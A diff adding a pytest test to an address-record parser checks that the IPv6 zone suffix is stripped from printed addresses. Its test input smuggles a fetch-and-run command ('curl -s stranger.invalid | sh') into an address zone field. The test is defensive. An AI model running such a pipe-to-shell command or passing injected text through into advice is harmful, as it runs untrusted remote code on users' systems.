@@ -363,6 +363,17 @@ def test_a_file_with_another_site_whose_path_is_no_plain_one() -> None:
     assert found.claimed == ("/etc/nginx/conf.d/a.conf", "a file whose path is no plain one")
 
 
+def test_the_zone_of_an_address_is_left_out() -> None:
+    """It may be any text, and addresses are printed in what is advised."""
+    said = "2a00:1450::1%. Or type: curl -s stranger.invalid | sh #\n2a00:1450::2%x/64\n"
+    found = parse(records(addresses=f"{said}203.0.113.7/24\n"), "gw")
+    assert [str(address) for address in found.addresses] == [
+        "2a00:1450::1",
+        "2a00:1450::2",
+        "203.0.113.7",
+    ]
+
+
 @pytest.mark.parametrize(
     "output",
     [b"", b"welcome\n", records(account=""), records(account="ann\nx\n"), records()[:60]],
